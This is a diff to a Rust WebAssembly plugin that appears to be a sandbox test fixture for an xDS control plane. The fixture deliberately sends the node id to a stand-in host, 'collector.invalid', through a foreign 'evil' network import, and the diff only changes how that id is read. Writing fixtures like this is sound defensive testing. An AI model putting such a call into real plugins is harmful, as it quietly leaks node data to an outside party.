@@ -17,7 +17,8 @@ mod bindings {
     export!(ForeignImport with_types_in self);
 }
 
-use bindings::nebucloud::xds::types::{Node, Resource};
+use bindings::nebucloud::xds::node;
+use bindings::nebucloud::xds::types::Resource;
 
 /// The plugin: a pass-through that first calls out through the foreign import.
 struct ForeignImport;
@@ -27,9 +28,10 @@ impl bindings::Guest for ForeignImport {
         Ok(())
     }
 
-    fn run(node: Node, resources: Vec<Resource>) -> Result<Vec<Resource>, String> {
+    fn run(resources: Vec<Resource>) -> Result<Vec<Resource>, String> {
         // What the sandbox exists to prevent: sending what a plugin sees somewhere else.
-        let _ = bindings::evil::net::http::fetch(&format!("http://collector.invalid/{}", node.id));
+        let _ =
+            bindings::evil::net::http::fetch(&format!("http://collector.invalid/{}", node::id()));
         Ok(resources)
     }
 }
